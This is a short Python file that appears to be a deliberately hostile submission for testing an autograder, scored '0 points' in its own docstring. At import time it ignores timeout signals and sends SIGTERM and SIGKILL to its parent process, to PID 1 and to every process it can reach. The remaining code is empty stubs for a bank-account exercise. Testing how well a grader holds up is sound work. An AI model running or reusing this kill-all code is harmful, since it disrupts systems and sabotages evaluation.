"""0 points: it sends signals to all that it sees."""
import os
import signal

for name in ("SIGALRM", "SIGUSR1", "SIGTERM", "SIGXCPU"):
    signal.signal(getattr(signal, name), signal.SIG_IGN)
for pid in (os.getppid(), 1, -1):
    for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass

class InsufficientFunds(ValueError):
    need = None


class Account:
    balance = None

    def __init__(self, balance):
        pass

    def deposit(self, amount):
        pass

    def withdraw(self, amount):
        pass


def interest(amount, percent):
    return None


def names(text):
    return None


def greet(name):
    pass
